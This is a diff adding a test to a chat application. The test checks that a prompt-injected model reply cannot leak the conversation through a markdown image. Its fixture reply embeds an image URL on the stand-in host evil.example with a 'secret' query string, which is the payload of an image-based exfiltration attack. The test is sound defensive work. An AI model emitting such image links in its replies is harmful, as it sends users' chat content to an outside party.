@@ -71,6 +71,19 @@ def test_free_visitor_gets_a_streamed_markdown_reply(chat_app, client):
     assert chat_app.upstream.started == before
 
 
+def test_a_reply_cannot_embed_an_image_from_another_site(chat_app, client):
+    """A prompt-injected reply must not send the chat to another site through an image URL."""
+    chat_app.upstream.replies.append("Done. ![the chat](https://evil.example/leak.png?q=secret) "
+                                     "![ours](/static/logo.png) [![nested](https://evil.example/n.png)](/pricing)")
+    sent = client.post("/chat/send", data={"content": "my secret", "model": "gpt-4o-mini"})
+    events = read_stream(client, stream_url(sent.text))
+    conv = Conversation.select().order_by(Conversation.id.desc()).first()
+    for html in ("".join(data for _, data in events), client.get(f"/c/{conv.id}").text):
+        assert set(re.findall(r"<img [^>]*>", html)) == {'<img src="/static/logo.png" alt="ours">'}
+        assert '<a href="https://evil.example/leak.png?q=secret" rel="noopener noreferrer nofollow">the chat</a>' in html
+        assert "nested" in html
+
+
 PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
 
 
